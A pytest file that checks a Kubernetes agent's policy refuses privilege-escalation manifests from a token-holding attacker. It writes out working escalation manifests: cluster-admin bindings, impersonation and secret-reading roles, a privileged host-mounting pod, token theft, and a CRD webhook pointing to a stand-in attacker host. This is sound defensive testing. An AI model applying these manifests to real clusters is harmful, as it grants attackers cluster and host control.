"""An attacker with a ``submit`` token for one agent tries every known way to turn that agent
against its cluster, on a real API server with the default policy. Each attempt must be refused
before anything is applied, and the attacker's ServiceAccount must be able to do nothing more
afterwards than before (asked as ``kubectl auth can-i --as`` asks: SubjectAccessReviews).

The same attempts with their allowance given do get through, and then the attacker does hold
the power: the questions asked would notice an escalation that slipped past.
"""

from __future__ import annotations

import uuid
from collections.abc import Callable
from typing import Any

import attrs
import pytest
from kubernetes import client as k8s

from tests.bed.harness import Agent, ControlPlane, finish
from tests.bed.kube import Cluster
from tests.bed.rbac import Subject, apply_as_admin, in_thread, powers, read_object
from transporter.agent.policy import ALLOWANCES, Policy
from transporter.protocol.model import EventRecord, EventState, Phase
from transporter.security.tokens import Role

RBAC = "rbac.authorization.k8s.io/v1"
EVERY_VERB = (
    "get, list, watch, create, update, patch, delete, deletecollection, escalate, bind, impersonate"
)


@attrs.frozen
class Scene:
    """The attacker: a ServiceAccount in a namespace of its own, and a token for one agent."""

    namespace: str
    subject: Subject

    @property
    def account(self) -> str:
        return f"{{kind: ServiceAccount, name: attacker, namespace: {self.namespace}}}"


@pytest.fixture
async def scene(cluster: Cluster) -> Scene:
    namespace = f"attack-{uuid.uuid4().hex[:8]}"
    await in_thread(
        apply_as_admin,
        cluster,
        f"apiVersion: v1\nkind: Namespace\nmetadata: {{name: {namespace}}}\n",
        service_account("attacker", namespace),
    )
    return Scene(namespace, Subject.service_account(namespace, "attacker"))


async def attack(
    cp: ControlPlane, agent: Agent, *manifests: str, delete: bool = False
) -> EventRecord:
    """Submit as the attacker: a ``submit`` token scoped to this one agent."""
    token = await cp.new_token(f"attacker-{uuid.uuid4().hex[:6]}", Role.SUBMIT, (agent.agent_id,))
    body: dict[str, Any] = {
        "target_agent": agent.agent_id,
        "payload": {"manifests": list(manifests), "action": "delete" if delete else "apply"},
    }
    submitted = await cp.client_with(token).submit(body)
    return await finish(cp, submitted.event_id)


def crb(name: str, role: str, subjects: str) -> str:
    return (
        f"apiVersion: {RBAC}\nkind: ClusterRoleBinding\nmetadata: {{name: {name}}}\n"
        f"roleRef: {{apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: {role}}}\n"
        f"subjects: [{subjects}]\n"
    )


def cluster_role(name: str, rules: str, extra: str = "") -> str:
    head = f"apiVersion: {RBAC}\nkind: ClusterRole\nmetadata: {{name: {name}}}\n"
    return f"{head}rules: {rules}\n{extra}"


def service_account(name: str, namespace: str) -> str:
    metadata = f"{{name: {name}, namespace: {namespace}}}"
    return f"apiVersion: v1\nkind: ServiceAccount\nmetadata: {metadata}\n"


def rules(group: str, resources: str, verbs: str) -> str:
    return f"[{{apiGroups: ['{group}'], resources: [{resources}], verbs: [{verbs}]}}]"


def granted(name: str, rules: str, scene: Scene) -> list[str]:
    """A ClusterRole with ``rules``, bound to the attacker."""
    return [cluster_role(name, rules), crb(name, name, scene.account)]


def privileged_pod(namespace: str) -> str:
    return f"""apiVersion: v1
kind: Pod
metadata: {{name: escape, namespace: {namespace}}}
spec:
  hostPID: true
  hostNetwork: true
  containers:
  - name: c
    image: registry.invalid/shell:1
    securityContext: {{privileged: true}}
    volumeMounts: [{{name: root, mountPath: /host}}]
  volumes: [{{name: root, hostPath: {{path: /}}}}]
"""


@attrs.frozen
class Attempt:
    """One way in: its manifests (given the scene and a unique suffix), whether they are
    deleted, the rules the refusal must name, and what the cluster admin sets up first."""

    name: str
    manifests: Callable[[Scene, str], list[str]]
    rules: frozenset[str]
    delete: bool = False
    setup: Callable[[Scene, str], list[str]] = lambda scene, n: []


ATTEMPTS = [
    Attempt(
        "subjects-only-binding-named-cluster-admin",
        lambda s, n: [
            f"apiVersion: {RBAC}\nkind: ClusterRoleBinding\nmetadata: {{name: cluster-admin}}\n"
            f"subjects: [{s.account}]\n"
        ],
        frozenset({"cluster-admin", "builtin-roles"}),
    ),
    Attempt(
        "delete-cluster-role-cluster-admin",
        lambda s, n: [cluster_role("cluster-admin", "[]")],
        frozenset({"delete-rbac", "delete-system"}),
        delete=True,
    ),
    Attempt(
        "every-verb-spelled-out",
        lambda s, n: granted(f"all-{n}", rules("*", "'*'", EVERY_VERB), s),
        frozenset({"wildcard-resources", "rbac-writes", "impersonation", "secrets"}),
    ),
    Attempt(
        "impersonate-users-and-groups",
        lambda s, n: granted(f"imp-{n}", rules("", "users, groups", "impersonate"), s),
        frozenset({"impersonation"}),
    ),
    Attempt(
        "bind-to-edit",
        lambda s, n: [crb(f"edit-{n}", "edit", s.account)],
        frozenset({"builtin-roles"}),
    ),
    Attempt(
        "bind-to-a-controller-role",
        lambda s, n: [
            crb(f"ctl-{n}", "system:controller:clusterrole-aggregation-controller", s.account)
        ],
        frozenset({"builtin-roles"}),
    ),
    Attempt(
        "read-every-secret",
        lambda s, n: granted(f"sec-{n}", rules("", "secrets", "get, list"), s),
        frozenset({"secrets"}),
    ),
    Attempt(
        "aggregate-cluster-admin",
        lambda s, n: [
            cluster_role(
                f"agg-{n}",
                "[]",
                "aggregationRule: {clusterRoleSelectors: [{matchLabels:"
                " {kubernetes.io/bootstrapping: rbac-defaults}}]}\n",
            ),
            crb(f"agg-{n}", f"agg-{n}", s.account),
        ],
        frozenset({"aggregation"}),
    ),
    Attempt(
        "validating-admission-policy-blocking-kube-system",
        lambda s, n: [
            "apiVersion: admissionregistration.k8s.io/v1\nkind: ValidatingAdmissionPolicy\n"
            f"metadata: {{name: block-{n}}}\nspec:\n  failurePolicy: Fail\n  matchConstraints:\n"
            "    resourceRules: [{apiGroups: ['*'], apiVersions: ['*'], operations: ['*'],"
            " resources: ['*']}]\n  validations: [{expression: 'false'}]\n",
            "apiVersion: admissionregistration.k8s.io/v1\nkind: ValidatingAdmissionPolicyBinding\n"
            f"metadata: {{name: block-{n}}}\nspec: {{policyName: block-{n},"
            " validationActions: [Deny]}\n",
        ],
        frozenset({"admission-policies"}),
    ),
    Attempt(
        "crd-conversion-webhook-to-an-outside-url",
        lambda s, n: [
            f"""apiVersion: apiextensions.k8s.io/v1
kind: CustomResourceDefinition
metadata: {{name: gadgets{n}.example.com}}
spec:
  group: gadgets{n}.example.com
  scope: Namespaced
  names: {{plural: gadgets{n}, singular: gadget{n}, kind: Gadget{n}}}
  conversion:
    strategy: Webhook
    webhook:
      conversionReviewVersions: [v1]
      clientConfig: {{url: "https://attacker.invalid/convert"}}
  versions:
  - {{name: v1, served: true, storage: true, schema: {{openAPIV3Schema: {{type: object}}}}}}
"""
        ],
        frozenset({"crd-conversion-webhooks"}),
    ),
    Attempt(
        "privileged-pod-on-the-host",
        lambda s, n: [privileged_pod(s.namespace)],
        frozenset({"podSecurity"}),
    ),
    Attempt(
        "token-secret-of-a-service-account",
        lambda s, n: [
            f"apiVersion: v1\nkind: Secret\ntype: kubernetes.io/service-account-token\n"
            f"metadata: {{name: tok-{n}, namespace: {s.namespace},"
            " annotations: {kubernetes.io/service-account.name: powerful}}\n"
        ],
        frozenset({"service-account-tokens"}),
    ),
    Attempt(
        "workload-running-as-a-powerful-account",
        lambda s, n: [
            f"""apiVersion: apps/v1
kind: Deployment
metadata: {{name: steal-{n}, namespace: {s.namespace}}}
spec:
  selector: {{matchLabels: {{app: steal}}}}
  template:
    metadata: {{labels: {{app: steal}}}}
    spec:
      serviceAccountName: powerful
      containers: [{{name: c, image: registry.invalid/shell:1}}]
"""
        ],
        frozenset({"powerful-service-accounts"}),
        setup=lambda s, n: [
            service_account("powerful", s.namespace),
            crb(
                f"powerful-{n}",
                "cluster-admin",
                f"{{kind: ServiceAccount, name: powerful, namespace: {s.namespace}}}",
            ),
        ],
    ),
]  # fmt: skip


async def cluster_admin_subjects(cluster: Cluster) -> list[tuple[str, str]]:
    binding = await in_thread(
        read_object,
        cluster,
        lambda api: k8s.RbacAuthorizationV1Api(api).read_cluster_role_binding("cluster-admin"),
    )
    return [(s.kind, s.name) for s in binding.subjects]


@pytest.mark.parametrize("attempt", ATTEMPTS, ids=lambda attempt: attempt.name)
async def test_every_way_in_is_refused_and_the_attacker_gains_nothing(
    cp: ControlPlane,
    make_agent: Callable[..., Agent],
    cluster: Cluster,
    scene: Scene,
    attempt: Attempt,
) -> None:
    suffix = uuid.uuid4().hex[:6]
    await in_thread(apply_as_admin, cluster, *attempt.setup(scene, suffix))
    agent = make_agent(cluster)
    await agent.start(cp.agent_url)
    before = await in_thread(powers, cluster, scene.subject)
    admins = await cluster_admin_subjects(cluster)
    record = await attack(cp, agent, *attempt.manifests(scene, suffix), delete=attempt.delete)
    assert record.state is EventState.FAILED, record.message
    assert record.message.startswith("refused by agent policy: "), record.message
    for rule in attempt.rules:
        assert f"(rule {rule})" in record.message, record.message
    phases = [entry.phase for entry in record.timeline if entry.phase]
    assert Phase.APPLYING not in phases
    assert await in_thread(powers, cluster, scene.subject) == before
    assert not any(before.values())
    assert await cluster_admin_subjects(cluster) == admins
    assert await in_thread(
        read_object,
        cluster,
        lambda api: k8s.RbacAuthorizationV1Api(api).read_cluster_role("cluster-admin"),
    )


# (Not bind-to-edit: the test bed runs no controller-manager, so edit aggregates no rules.)
ALLOWED = [
    attempt
    for attempt in ATTEMPTS
    if attempt.name
    in ("every-verb-spelled-out", "impersonate-users-and-groups", "read-every-secret")
]


@pytest.mark.parametrize("attempt", ALLOWED, ids=lambda attempt: attempt.name)
async def test_with_its_allowance_the_same_attempt_does_grant_the_power(
    cp: ControlPlane,
    make_agent: Callable[..., Agent],
    cluster: Cluster,
    scene: Scene,
    attempt: Attempt,
) -> None:
    """What the refusal above prevents is real: allowed, the attacker holds the power."""
    agent = make_agent(cluster, policy=Policy(allow=frozenset(ALLOWANCES)))
    await agent.start(cp.agent_url)
    before = await in_thread(powers, cluster, scene.subject)
    record = await attack(cp, agent, *attempt.manifests(scene, uuid.uuid4().hex[:6]))
    assert record.state is EventState.COMPLETED, record.message
    after = await in_thread(powers, cluster, scene.subject)
    gained = {power for power, allowed in after.items() if allowed and not before[power]}
    assert gained, after
